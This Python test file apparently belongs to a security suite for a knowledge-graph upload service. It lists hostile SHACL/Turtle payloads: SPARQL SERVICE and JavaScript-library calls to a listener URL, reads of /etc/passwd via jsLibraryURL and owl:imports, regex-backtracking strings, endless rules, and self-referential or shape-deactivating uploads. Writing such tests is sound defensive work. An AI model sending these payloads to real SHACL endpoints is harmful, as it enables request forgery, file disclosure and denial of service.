"""Uploads that bring shapes, rules, targets and imports of their own."""

from __future__ import annotations

from functools import partial

from tests.attacks.model import HARMLESS, Upload, Weakness
from tests.attacks.upload_terms import OURS, PREFIXES, TURTLE

RDF = "http://www.w3.org/1999/02/22-rdf-syntax-ns#"
LISTENER = "http://127.0.0.1:{port}/"
PASSWD = b"root:x:0:0"

shacl = partial(Upload, weakness=Weakness.SHACL, media_type=TURTLE, expect=HARMLESS, conforms=False)


def shape(constraint: str, target: str = "sh:targetClass ckg:Claim") -> str:
    return f"{PREFIXES}<s:s> a sh:NodeShape ; {target} ; {constraint} .\n"


SHAPES = [
    shacl(
        "sparql-constraint",
        body=shape(
            'sh:sparql [ sh:select "SELECT $this { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }" ]'
        ),
    ),
    shacl(
        "sparql-that-calls",
        body=shape(
            f'sh:sparql [ sh:select "SELECT $this {{ SERVICE <{LISTENER}> {{ $this ?b ?c }} }}" ]'
        ),
    ),
    shacl(
        "sparql-target",
        body=shape(
            "sh:nodeKind sh:IRI",
            'sh:target [ a sh:SPARQLTarget ; sh:select "SELECT ?this '
            '{ ?this ?p ?o . ?a ?b ?c . ?d ?e ?f }" ]',
        ),
    ),
    shacl(
        "sparql-component",
        body=f"{PREFIXES}<s:c> a sh:ConstraintComponent ; sh:parameter [ sh:path <s:p> "
        f'] ; sh:validator [ a sh:SPARQLAskValidator ; sh:ask "ASK {{ SERVICE '
        f'<{LISTENER}> {{}} }}" ] .',
    ),
    shacl(
        "sparql-function",
        body=f"{PREFIXES}<s:f> a sh:SPARQLFunction ; sh:returnType xsd:string ; "
        f'sh:select "SELECT (1 AS ?x) {{ SERVICE <{LISTENER}> {{}} }}" .',
    ),
    shacl(
        "javascript",
        body=shape(
            f'sh:js [ sh:jsFunctionName "f" ; sh:jsLibrary [ sh:jsLibraryURL '
            f'"{LISTENER}x.js"^^xsd:anyURI ] ]'
        ),
    ),
    shacl(
        "javascript-from-a-file",
        body=shape(
            'sh:js [ sh:jsFunctionName "f" ; sh:jsLibrary [ sh:jsLibraryURL '
            '"file:///etc/passwd"^^xsd:anyURI ] ]'
        ),
        never=PASSWD,
    ),
    shacl(
        "rule-triple",
        body=shape(
            "sh:rule [ a sh:TripleRule ; sh:subject sh:this ; sh:predicate "
            "ckg:standing ; sh:object <x:x> ]"
        ),
    ),
    shacl(
        "rule-sparql",
        body=shape(
            'sh:rule [ a sh:SPARQLRule ; sh:construct "CONSTRUCT { $this <a:b> ?u } '
            'WHERE { BIND(UUID() AS ?u) }" ]'
        ),
        note="new triples without end",
    ),
    shacl(
        "imports",
        body=f"<a:a> a <http://www.w3.org/2002/07/owl#Ontology> ; "
        f"<http://www.w3.org/2002/07/owl#imports> <{LISTENER}x.ttl> .",
    ),
    shacl(
        "imports-file",
        body="<a:a> <http://www.w3.org/2002/07/owl#imports> <file:///etc/passwd> .",
        never=PASSWD,
    ),
    shacl(
        "shapes-graph",
        body=f"{PREFIXES}<s:s> sh:shapesGraph <{LISTENER}shapes.ttl> ; sh:entailment <x:x> .",
    ),
    shacl(
        "pattern-that-backtracks",
        body=shape('sh:property [ sh:path rdfs:label ; sh:pattern "^(a+)+$" ]')
        + f'claim:1 a ckg:Claim ; rdfs:label "{"a" * 40}!"@en .',
        weakness=Weakness.REGEX,
    ),
    shacl(
        "pattern-alternatives",
        body=shape(r'sh:pattern "^(([a-z])+.)+[A-Z]([a-z])+$"', "sh:targetObjectsOf rdfs:label")
        + f'<a:a> rdfs:label "{"a" * 60}" .',
        weakness=Weakness.REGEX,
    ),
    shacl(
        "iri-against-our-patterns",
        body=lambda: f"{PREFIXES}<{OURS}id/claim/{'a-' * 30_000}!> a ckg:Claim .",
        weakness=Weakness.REGEX,
        note="aims at (-[a-z0-9]+)* of the shapes that come with kg",
    ),
    shacl(
        "shapes-of-ours-deactivated",
        body=f"{PREFIXES}<{OURS}shapes#ClaimShape> sh:deactivated true . ckg:Claim "
        f"sh:severity sh:Info .\nclaim:1 a ckg:Claim .",
    ),
    shacl(
        "class-of-ours-redefined",
        body=f"{PREFIXES}ckg:Claim rdfs:subClassOf ckg:Person , <x:Shape> . ckg:Person "
        f"rdfs:subClassOf ckg:Claim .",
    ),
    shacl(
        "shape-of-itself",
        body=shape("sh:node <s:s> ; sh:not <s:s> ; sh:and ( <s:s> ) ; sh:property <s:s>"),
    ),
    shacl(
        "path-of-itself",
        body=shape("sh:property [ sh:path <s:path> ]")
        + "<s:path> sh:zeroOrMorePath <s:path> ; sh:inversePath <s:path> .",
    ),
    shacl(
        "list-of-itself", body=shape("sh:in <s:l>") + f"<s:l> <{RDF}first> 1 ; <{RDF}rest> <s:l> ."
    ),
    shacl(
        "list-of-ours-that-branches",
        body=f"<l:l> <{RDF}first> 1 , 2 ; <{RDF}rest> <l:l> , <l:m> . <l:m> <{RDF}rest> <l:l> .",
    ),
]
